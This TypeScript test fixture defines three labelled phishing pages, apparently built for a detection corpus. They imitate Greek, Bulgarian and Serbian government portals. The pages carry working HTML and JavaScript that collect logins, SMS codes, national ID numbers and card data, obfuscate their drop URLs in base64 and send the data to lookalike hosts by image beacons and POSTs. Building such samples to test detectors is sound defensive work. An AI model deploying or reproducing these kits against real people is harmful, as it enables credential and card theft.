import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { b64, cardFields, doc, govMark, luhnJs } from '../parts/xc-kit.js';

// gov.gr Wallet renewal lure: fake GSIS/Taxisnet sign-in, then AMKA + mobile, then the SMS code; beacons as image requests.
const govgrKit = doc({
  lang: 'el',
  title: 'gov.gr Wallet – Ανανέωση ψηφιακής ταυτότητας',
  css: `.gh{background:#003476;color:#fff;padding:14px 28px;display:flex;align-items:center;gap:14px;font-size:20px;font-weight:700}
.gh small{font-weight:400;font-size:13px;opacity:.85}.m{max-width:560px;margin:28px auto;padding:0 16px}
.bx{background:#fff;border:1px solid #d3dbe5;padding:26px}.bx h1{font-size:22px;margin:0 0 10px}.bx p{font-size:15px;line-height:1.55}
.tx{border:1px solid #b6c2cf;padding:18px;margin-top:14px;background:#fbfcfd}.tx h3{margin:0 0 10px;font-size:16px}
label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;padding:10px;border:2px solid #0b0c0c;font-size:16px}
.gb{margin-top:16px;background:#00703c;color:#fff;border:0;padding:11px 22px;font-size:16px;box-shadow:0 2px 0 #002d18}
.ph{display:none}.f{font-size:12px;color:#555;margin-top:26px;border-top:1px solid #ccc;padding-top:10px}`,
  body: `<div class="gh">${govMark('gov', '#0065b3')}<div>gov.gr <small>Wallet</small></div></div>
<div class="m"><div class="bx">
<div id="a"><h1>Η ψηφιακή σας ταυτότητα λήγει</h1>
<p>Σύμφωνα με την Υ.Α. 2025/3418, οι ψηφιακές ταυτότητες και τα ψηφιακά διπλώματα οδήγησης στο gov.gr Wallet πρέπει να ανανεωθούν. Αν δεν ολοκληρώσετε την ανανέωση, τα έγγραφα θα διαγραφούν από την εφαρμογή.</p>
<div class="tx"><h3>Αυθεντικοποίηση με κωδικούς Taxisnet</h3>
<form id="f1"><label>Χρήστης</label><input name="tx_user" required><label>Κωδικός</label><input name="tx_pass" type="password" required><button class="gb">Σύνδεση</button></form></div></div>
<div id="b" class="ph"><h1>Στοιχεία επικοινωνίας</h1><p>Επιβεβαιώστε τα στοιχεία που είναι καταχωρισμένα στο Εθνικό Μητρώο Επικοινωνίας.</p>
<form id="f2"><label>ΑΜΚΑ</label><input name="amka" maxlength="11" required><label>Κινητό τηλέφωνο</label><input name="kin" required><button class="gb">Αποστολή κωδικού</button></form></div>
<div id="c" class="ph"><h1>Κωδικός επιβεβαίωσης</h1><p>Πληκτρολογήστε τον εξαψήφιο κωδικό που στάλθηκε με SMS από «gov.gr».</p>
<form id="f3"><label>Κωδικός</label><input name="code" maxlength="6" required><button class="gb">Ολοκλήρωση ανανέωσης</button></form></div>
</div><div class="f">Ελληνική Δημοκρατία · Υπουργείο Ψηφιακής Διακυβέρνησης</div></div>
<script>
var E=atob('${b64('https://cdn-stat.gov-wallet.top/px.gif')}'),R=Math.random().toString(36).slice(2);
function px(o){o.r=R;new Image().src=E+'?d='+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(o)))))}
function nx(f,a,b,step){f.onsubmit=function(e){e.preventDefault();var o={s:step};new FormData(f).forEach(function(v,k){o[k]=v});px(o);document.getElementById(a).style.display='none';if(b)document.getElementById(b).style.display='block';else location.href='https://wallet.gov.gr/'}}
nx(document.getElementById('f1'),'a','b',1);nx(document.getElementById('f2'),'b','c',2);nx(document.getElementById('f3'),'c',null,3);
</script>`,
});

// NAP tax-refund lure (Bulgaria): SMS short link hop, then a card form "to receive" the refund.
const napKit = doc({
  lang: 'bg',
  title: 'НАП – Възстановяване на данък',
  css: `.hd{background:#1d4f91;color:#fff;padding:14px 26px;display:flex;gap:12px;align-items:center}.hd b{font-size:17px}
.wr{max-width:620px;margin:24px auto;background:#fff;padding:26px 30px;border:1px solid #d0d7e1}
.sum{background:#eef5ee;border:1px solid #b9d7b9;padding:14px;font-size:15px;margin:12px 0}.sum b{font-size:22px;color:#22692a}
.fld{margin:10px 0}.fld label{display:block;font-size:13px;margin-bottom:4px}.fld input{width:100%;padding:10px;border:1px solid #9aa7b8}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.bt{background:#1d4f91;color:#fff;border:0;padding:12px 24px;font-size:15px;margin-top:10px}`,
  body: `<div class="hd">${govMark('НАП', '#c8102e')}<b>Национална агенция за приходите</b></div>
<div class="wr"><h2>Възстановяване на надплатен данък</h2>
<p>След проверка на подадената годишна данъчна декларация по чл. 50 от ЗДДФЛ е установено, че имате право на възстановяване на сума.</p>
<div class="sum">Сума за възстановяване: <b>146,90 €</b><br><span style="font-size:12px">Референтен номер: 2025-ВД-884120</span></div>
<form method="post" action="https://nap-bg.vazstanovyavane.com/obr/pay.php">
<div class="fld"><label>Три имена</label><input name="ime" required></div>
<div class="fld"><label>ЕГН</label><input name="egn" maxlength="10" required></div>
<p style="font-size:13px">Посочете дебитна или кредитна карта, по която да бъде преведена сумата:</p>
${cardFields('bg', { number: 'karta', mm: 'mm', yy: 'gg', cvv: 'cvc' })}
<div class="fld"><label>Наличност по сметката (за проверка)</label><input name="nal"></div>
<button class="bt">Получаване на сумата</button></form>
<p style="font-size:11px;color:#777;margin-top:18px">© НАП 2025 · Всички права запазени</p></div>
<script>${luhnJs('v')}document.forms[0].onsubmit=function(e){if(!v(this.karta.value)){e.preventDefault();alert('Невалиден номер на карта')}}</script>`,
});

// eUprava (Serbia) "jednokratna pomoć" lure; the drop URL comes from a JSON config the page fetches.
const eupravaKit = doc({
  lang: 'sr-Latn',
  title: 'eUprava – Isplata jednokratne pomoći',
  css: `.tp{background:#0c4076;color:#fff;padding:12px 24px;display:flex;align-items:center;gap:12px}.tp span{font-size:18px}
.rb{height:6px;background:linear-gradient(90deg,#c6363c 33%,#0c4076 33% 66%,#fff 66%)}
.ct{max-width:600px;margin:26px auto;background:#fff;padding:26px;border-radius:4px}.ct h1{font-size:22px;color:#0c4076}
.fld{margin:10px 0}.fld label{display:block;font-size:13px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #aab}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.dug{background:#0c4076;color:#fff;border:0;padding:12px 20px;width:100%;margin-top:10px;font-size:15px}`,
  body: `<div class="rb"></div><div class="tp">${govMark('eU', '#c6363c')}<span>eUprava · Portal elektronske uprave Republike Srbije</span></div>
<div class="ct"><h1>Isplata jednokratne pomoći građanima</h1>
<p>Na osnovu Uredbe Vlade, svim punoletnim građanima sa prebivalištem u Republici Srbiji pripada jednokratna pomoć od <b>10.000 dinara</b>. Vaša prijava je odobrena, ali isplata nije izvršena jer nedostaju podaci o kartici.</p>
<form id="ep">
<div class="fld"><label>Ime i prezime</label><input name="ime" required></div>
<div class="fld"><label>JMBG</label><input name="jmbg" maxlength="13" required></div>
${cardFields('sr-Latn', { number: 'br', mm: 'mes', yy: 'god', cvv: 'cvv' })}
<button class="dug">Potvrdi isplatu</button></form></div>
<script>
var cfg;fetch('/cfg.json').then(function(r){return r.json()}).then(function(j){cfg=j});
document.getElementById('ep').addEventListener('submit',function(e){e.preventDefault();var body=new URLSearchParams(new FormData(this));body.set('tag',cfg?cfg.tag:'rs');
fetch(atob(cfg.d),{method:'POST',body:body,mode:'no-cors'}).finally(function(){location.href=cfg.next})});
</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-govgr-wallet-taxisnet-kit',
    label: 'phishing',
    kind: 'gov-portal-credential-kit',
    url: 'https://wallet-gov-gr.ananeosi-tautotitas.com/login/taxisnet',
    body: govgrKit,
  },
  {
    id: 'xc-nap-bg-refund-kit',
    label: 'phishing',
    kind: 'tax-refund-card-kit',
    url: 'https://s.nap-bg-info.top/v/23kd',
    routes: {
      's.nap-bg-info.top/v/23kd': redirectRoute(302, 'https://nap-bg.vazstanovyavane.com/vazstanovyavane/?ref=884120'),
      'nap-bg.vazstanovyavane.com/vazstanovyavane/': htmlRoute(napKit),
    },
  },
  {
    id: 'xc-euprava-rs-refund-kit',
    label: 'phishing',
    kind: 'gov-benefit-card-kit',
    url: 'https://euprava-gov-rs.isplata-pomoci.xyz/isplata/',
    body: eupravaKit,
    routes: {
      'euprava-gov-rs.isplata-pomoci.xyz/cfg.json': jsonRoute({ d: b64('https://api.isplata-pomoci.xyz/rcv.php'), tag: 'rs-pomoc', next: 'https://euprava.gov.rs/' }),
    },
  },
];
